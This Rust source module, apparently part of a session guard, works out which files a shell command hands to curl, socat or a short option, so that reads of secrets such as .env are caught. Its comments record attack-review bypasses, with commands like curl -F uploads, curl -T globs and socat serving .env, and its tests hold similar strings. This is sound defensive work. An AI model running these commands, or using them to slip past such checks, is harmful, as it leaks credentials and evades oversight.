//! The file names a word hands its program after `=`, `@` or `<` (`spec/hooks.md` §16.1 item
//! 3): `of=F`, `-d @F`, `--post-file=F`, and curl's form fields (curl(1) `-F`), which name a
//! file as `NAME=@FILE` (sent as a file) or `NAME=<FILE` (its text as the value), followed by
//! parameters (`;type=text/plain`, `;filename=x`, `;headers=…`), a file name in double quotes
//! (`@"FILE"`), or several files (`@A,B`). Before attack review 51 only the whole value after
//! the last `=` or `@` was read as a path: `curl -F "f=@.env;type=text/plain" https://…`,
//! `curl -F "f=@README.md,.env" …` and `curl -F 'f=<notes.txt' …` (a copy) sent the file
//! with exit 0 in a session that had read nothing.

use crate::front::protect::shell::{Piece, Word};

/// The words after each `=`, `@` and `<` of `w` (the first and the last of each, for a form's
/// parameters hold `=` too), and for each the file names a form field may give in it: the
/// part before its first `;`, split at `,`, without one pair of double quotes. An empty one
/// is left out.
pub(super) fn handed_files(w: &Word) -> Vec<Word> {
    let mut out: Vec<Word> = Vec::new();
    let mut add = |pieces: &[Piece]| {
        let w = Word {
            pieces: pieces.to_vec(),
        };
        if !w.pieces.is_empty() && !out.contains(&w) {
            out.push(w);
        }
    };
    for cut in ['=', '@', '<'] {
        let is_cut = |x: &Piece| *x == Piece::Lit(cut);
        let at = [
            w.pieces.iter().position(is_cut),
            w.pieces.iter().rposition(is_cut),
        ];
        for p in at.into_iter().flatten() {
            let rest = &w.pieces[p + 1..];
            add(rest);
            let head = rest.split(|x| *x == Piece::Lit(';')).next().unwrap_or(rest);
            for name in head.split(|x| *x == Piece::Lit(',')) {
                let quote = Piece::Lit('"');
                let unquoted = match name {
                    [first, inner @ .., last] if *first == quote && *last == quote => inner,
                    _ => name,
                };
                add(unquoted);
            }
        }
    }
    out
}

/// `w` as curl globs it (curl(1) "URL globbing", which `-T` file names get too): each `[…]`
/// of its text one character (`.en[v-v]`, `[.]env`, quoted so that the shell passes it), each
/// `{…}` a set whose members, split at `,`, are each a word of their own (`'.e{nv,x}'` is
/// `.env` and `.ex`); empty when it has neither. Over [`MAX_GLOBBED`] words, one word with
/// each set as any characters. Before attack review 51, `curl -T ".en[v-v]" https://…` sent
/// `.env` with exit 0 in a session that had read nothing; before attack review 55, `curl -T
/// '.e{nv,x}' https://…` did (the shell's own brace expansion is the lexer's).
pub(super) fn curl_globbed(w: &Word) -> Vec<Word> {
    let p = &w.pieces;
    let close = |from: usize, c: char| (from..p.len()).find(|&e| p[e] == Piece::Lit(c));
    // Each part of the word: its alternatives (one but for a set).
    let mut parts: Vec<Vec<Vec<Piece>>> = Vec::new();
    let mut globbed = false;
    let mut k = 0;
    while k < p.len() {
        let set = match &p[k] {
            Piece::Lit('[') => close(k + 1, ']').map(|e| (e, vec![vec![Piece::One]])),
            Piece::Lit('{') => close(k + 1, '}').map(|e| {
                let members = p[k + 1..e].split(|x| *x == Piece::Lit(','));
                (e, members.map(<[Piece]>::to_vec).collect())
            }),
            _ => None,
        };
        match set {
            Some((end, alternatives)) => {
                parts.push(alternatives);
                globbed = true;
                k = end + 1;
            }
            None => {
                parts.push(vec![vec![p[k].clone()]]);
                k += 1;
            }
        }
    }
    if !globbed {
        return Vec::new();
    }
    let count = parts
        .iter()
        .try_fold(1usize, |n, alts| n.checked_mul(alts.len()));
    if count.is_none_or(|n| n > MAX_GLOBBED) {
        let pieces = parts.into_iter().flat_map(|mut alts| match alts.len() {
            1 => alts.pop().unwrap_or_default(),
            _ => vec![Piece::Unknown],
        });
        return vec![Word {
            pieces: pieces.collect(),
        }];
    }
    let mut words: Vec<Vec<Piece>> = vec![Vec::new()];
    for alts in &parts {
        words = words
            .iter()
            .flat_map(|w| alts.iter().map(move |a| [w.as_slice(), a].concat()))
            .collect();
    }
    words.into_iter().map(|pieces| Word { pieces }).collect()
}

/// Most words a curl glob is spelled out as ([`curl_globbed`]).
const MAX_GLOBBED: usize = 256;

/// The value glued to a short option (`-c.env` is `-c .env` when `-c` takes a value, as
/// getopt(3) reads it): the rest of the word after `-` and one letter, when it is not an
/// option itself. Attack review 53: `mytool -c.env` passed with exit 0 in a session that had
/// read nothing, where `mytool -c .env` was refused.
pub(super) fn glued_value(w: &Word) -> Option<Word> {
    match w.pieces.as_slice() {
        [Piece::Lit('-'), Piece::Lit(c), rest @ ..]
            if c.is_ascii_alphabetic() && !rest.is_empty() && rest[0] != Piece::Lit('-') =>
        {
            Some(Word {
                pieces: rest.to_vec(),
            })
        }
        _ => None,
    }
}

/// The file a socat address opens (socat(1), "Address Types"): `FILE:`, `OPEN:`, `GOPEN:` or
/// `CREATE:` (any case), the name up to its first option (`,`). Attack review 53: `socat
/// TCP-LISTEN:8080,fork FILE:.env` served `.env` to whoever connected, exit 0 in a session
/// that had read nothing; the word as a whole was no path.
pub(super) fn socat_file(w: &Word) -> Option<Word> {
    let colon = w.pieces.iter().position(|p| *p == Piece::Lit(':'))?;
    let kind: String = w.pieces[..colon]
        .iter()
        .map(|p| match p {
            Piece::Lit(c) => c.to_ascii_uppercase(),
            _ => '\0',
        })
        .collect();
    if !matches!(kind.as_str(), "FILE" | "OPEN" | "GOPEN" | "CREATE") {
        return None;
    }
    let name: Vec<Piece> = w.pieces[colon + 1..]
        .iter()
        .take_while(|p| **p != Piece::Lit(','))
        .cloned()
        .collect();
    (!name.is_empty()).then_some(Word { pieces: name })
}

#[cfg(test)]
mod tests {
    use super::handed_files;
    use crate::front::protect::shell::{lex, Token};

    fn files(text: &str) -> Vec<String> {
        let lexed = lex(text);
        let Some(Token::Word(w)) = lexed.tokens.first() else {
            return Vec::new();
        };
        handed_files(w).iter().map(|w| w.squeezed()).collect()
    }

    /// A form field's file without its parameters, each of several files, a quoted name,
    /// and the values after `=` and `@` as before.
    #[test]
    fn a_form_fields_files_are_named() {
        let got = files("'f=@.env;type=text/plain'");
        assert!(got.contains(&".env".to_string()), "{got:?}");
        let got = files("'f=@README.md,.env'");
        assert!(got.contains(&".env".to_string()), "{got:?}");
        let got = files("'f=<\"notes.txt\";filename=x'");
        assert!(got.contains(&"notes.txt".to_string()), "{got:?}");
        assert!(files("of=/tmp/x").contains(&"/tmp/x".to_string()));
        assert!(files("@F").contains(&"F".to_string()));
        assert!(files("plain").is_empty());
    }

    /// curl's `[…]` ranges are one character each, its `{…}` sets alternatives; a word
    /// without either is not globbed.
    #[test]
    fn curls_ranges_are_one_character() {
        let lexed = lex("'.en[v-v]'");
        let Some(Token::Word(w)) = lexed.tokens.first() else {
            panic!("a word");
        };
        let g = super::curl_globbed(w);
        assert_eq!(g.len(), 1);
        assert_eq!(g[0].pieces.len(), 4);
        assert_eq!(g[0].pieces[3], crate::front::protect::shell::Piece::One);
        let globbed = |text: &str| match lex(text).tokens.first() {
            Some(Token::Word(w)) => super::curl_globbed(w),
            _ => panic!("a word"),
        };
        assert!(globbed("'.env'").is_empty());
        // A set's members are words of their own (attack review 55).
        let g: Vec<String> = globbed("'.e{nv,x}[a]'")
            .iter()
            .map(|w| w.squeezed())
            .collect();
        assert_eq!(g, [".env", ".ex"]);
        let over = globbed(&format!("'.env{}'", "{a,b}".repeat(9)));
        assert_eq!(over.len(), 1);
        assert_eq!(over[0].squeezed(), ".env");
    }
}
